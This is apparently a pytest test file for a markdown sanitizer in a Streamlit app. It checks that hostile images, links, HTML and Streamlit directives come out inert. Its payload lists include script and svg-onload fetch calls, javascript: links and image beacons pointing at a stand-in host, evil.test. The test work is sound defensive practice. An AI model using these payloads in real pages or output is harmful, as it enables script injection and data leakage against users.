"""Hostile markdown loads nothing, links nowhere, and triggers nothing of Streamlit's own."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from pages._safe_text import plain_text, safe_markdown

IMAGES = [
    "![a](http://evil.test/x.png)",
    "![a](https://evil.test/x.png?q=secret 'title')",
    "![a](<http://evil.test/x y.png>)",
    "![a][ref]\n\n[ref]: http://evil.test/x.png",
    "![ref]\n\n[ref]: http://evil.test/x.png",
    "![ref]\n\n> [ref]: http://evil.test/x.png",
    "![ref]\n\n- [ref]: http://evil.test/x.png",
    "![a\\](b](http://evil.test/x.png)",
    "[![a](http://evil.test/x.png)](http://evil.test/)",
    "!\\[a](http://evil.test/x.png) ![a](//evil.test/x.png)",
    "![a](data:image/png;base64,AAAA)",
    "!\u0000[a](http://evil.test/x.png)",
]
HTML = [
    "<img src=http://evil.test/x.png>",
    "<svg onload=fetch('http://evil.test')>",
    "<script>fetch('http://evil.test')</script>",
    "<iframe src='http://evil.test'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "&lt;img src=x&gt; &#60;img src=http://evil.test/x.png&#62;",
    "<http://evil.test/>",
]
LINKS = [
    "[click](http://evil.test/?q=secret)",
    "[click](javascript:alert(1))",
    "[click]( <http://evil.test> 'title' )",
    "[click](http://evil.test/a(b(c))d)",
    "[click][ref]\n\n[ref]: http://evil.test",
    "[click]\n\n   [click]: http://evil.test",
    "http://evil.test/x https://evil.test www.evil.test someone@evil.test",
    "&#91;click](http://evil.test)",
    "[a[b](http://evil.test)](http://evil.test)",
    "[^1]\n\n[^1]: http://evil.test",
]
DIRECTIVES = [
    ":material/home:",
    ":red[alarm]",
    ":red-background[alarm]",
    ":small[x] :smile: :streamlit:",
    ":orange-badge[paid]",
    "$\\href{http://evil.test}{x}$ $$x$$",
]


def tokens_of(markdown: str) -> list[Token]:
    parser = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    flat: list[Token] = []
    for token in parser.parse(markdown):
        flat += [token, *(token.children or [])]
    return flat


def assert_inert(markdown: str) -> None:
    kinds = {token.type for token in tokens_of(markdown)}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}, markdown


@pytest.mark.parametrize("payload", IMAGES + HTML + LINKS)
def test_payloads_become_neither_image_nor_link_nor_html(payload: str) -> None:
    assert_inert(safe_markdown(payload))
    assert_inert(plain_text(payload))


@pytest.mark.parametrize("payload", LINKS + IMAGES)
def test_no_address_is_left_that_a_page_turns_into_a_link(payload: str) -> None:
    for shown in (safe_markdown(payload), plain_text(payload)):
        assert "http://" not in shown
        assert "https://" not in shown
        assert "www.evil" not in shown
        assert "someone@evil" not in shown


@pytest.mark.parametrize("payload", DIRECTIVES)
def test_streamlit_reads_no_directive_and_no_formula(payload: str) -> None:
    for shown in (safe_markdown(payload), plain_text(payload)):
        assert ":material/" not in shown
        assert ":red[" not in shown
        assert ":smile:" not in shown
        assert "$" not in shown.replace(r"\$", "")


def test_a_link_keeps_its_words_and_an_image_its_description() -> None:
    assert safe_markdown("See [our terms](https://shop.example/terms).") == "See our terms."
    assert safe_markdown("![A red pot](https://shop.example/pot.png)") == "A red pot"


def test_citation_marks_side_by_side_stay_what_they_are() -> None:
    assert safe_markdown("65 TRY [1][2], free from 1,000 [3].") == (
        "65 TRY [1][2], free from 1,000 [3]."
    )


def test_emphasis_lists_and_tables_are_kept() -> None:
    text = "**Open** 10:00–19:00\n\n- tea\n- coffee\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert safe_markdown(text) == text
    kinds = {token.type for token in tokens_of(safe_markdown(text))}
    assert {"strong_open", "bullet_list_open", "table_open"} <= kinds


def test_a_time_of_day_is_not_broken_apart() -> None:
    assert safe_markdown("from 10:30:15 to 12:00") == "from 10:30:15 to 12:00"


def test_plain_text_shows_every_mark_as_it_was_typed() -> None:
    assert "strong_open" not in {token.type for token in tokens_of(plain_text("**not bold**"))}
    shown = "".join(
        t.content for t in tokens_of(plain_text("**not** _x_ # [1]")) if t.type == "text"
    )
    assert "".join(shown) == "**not** _x_ # [1]"


@given(st.text(alphabet=st.sampled_from("![]()<>:/\\ahttpw.@$&#;{}^*_`\n xs1"), max_size=60))
def test_no_arrangement_of_marks_becomes_active(text: str) -> None:
    assert_inert(safe_markdown(text))
    assert_inert(plain_text(text))


@given(st.text(alphabet=st.sampled_from("[]()!ab \\<>"), max_size=40), st.integers(0, 3))
def test_cleaning_twice_is_still_inert(text: str, depth: int) -> None:
    for _ in range(depth):
        text = f"[{text}](http://evil.test/{text})"
    assert_inert(safe_markdown(text))
